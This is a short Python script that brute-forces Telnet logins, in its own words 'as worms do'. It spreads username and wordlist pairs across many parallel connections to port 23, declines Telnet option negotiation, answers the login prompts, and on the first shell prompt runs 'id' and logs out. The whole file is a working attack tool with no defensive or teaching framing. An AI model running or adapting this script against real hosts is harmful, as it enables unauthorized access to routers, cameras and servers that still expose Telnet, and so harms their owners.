"""Guesses passwords by Telnet, as worms do: several connections at once, several tries each.

usage: telnet_guess.py ADDRESS USER[,USER...] WORDS CONNECTIONS

Refuses every option that the server asks for (RFC 854), answers its prompts, begins a new connection where the server
closes, and stops at the first word that opens a shell; there it looks who it is, and leaves.
"""
import queue
import re
import socket
import sys
import threading

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240


class Session:
    def __init__(self, address):
        self.socket = socket.create_connection((address, 23), timeout=30)
        self.text = b""

    def read(self):
        """The next text of the server; every option that came with it is refused. Empty at the end."""
        data = self.socket.recv(4096)
        text, answer, at = bytearray(), bytearray(), 0
        while at < len(data):
            if data[at] != IAC:
                text.append(data[at])
                at += 1
            elif data[at + 1:at + 2] and data[at + 1] in (DO, WILL):
                answer += bytes([IAC, WONT if data[at + 1] == DO else DONT]) + data[at + 2:at + 3]
                at += 3
            elif data[at + 1:at + 2] == bytes([SB]):
                end = data.find(bytes([IAC, SE]), at)
                at = end + 2 if end >= 0 else len(data)
            else:
                at += 3
        if answer:
            self.socket.sendall(answer)
        return bytes(text) if data else None

    def until(self, pattern):
        """Reads until one of the alternatives of `pattern` came; gives it, or None where the server closed."""
        while True:
            found = re.search(pattern, self.text)
            if found:
                self.text = self.text[found.end():]
                return found[0]
            more = self.read()
            if more is None:
                return None
            self.text += more

    def line(self, text):
        self.socket.sendall(text.encode() + b"\r\n")


def guess(address, words, found):
    while not found.is_set() and not words.empty():
        try:
            session = Session(address)
            while not found.is_set() and session.until(rb"login: "):
                user, word = words.get_nowait()
                session.line(user)
                if session.until(rb"Password: ") is None:
                    break
                session.line(word)
                answer = session.until(rb"Login incorrect|\$ ")
                if answer == b"$ ":
                    found.set()
                    print("found", flush=True)
                    session.line("id")
                    session.until(rb"\$ ")
                    session.line("exit")
                    session.until(rb"never said")
        except (OSError, queue.Empty):
            pass


def main():
    address, users, path, connections = sys.argv[1:]
    words, found = queue.Queue(), threading.Event()
    with open(path, encoding="utf-8") as f:
        for word in f.read().split():
            for user in users.split(","):
                words.put((user, word))
    threads = [threading.Thread(target=guess, args=(address, words, found)) for _ in range(int(connections))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
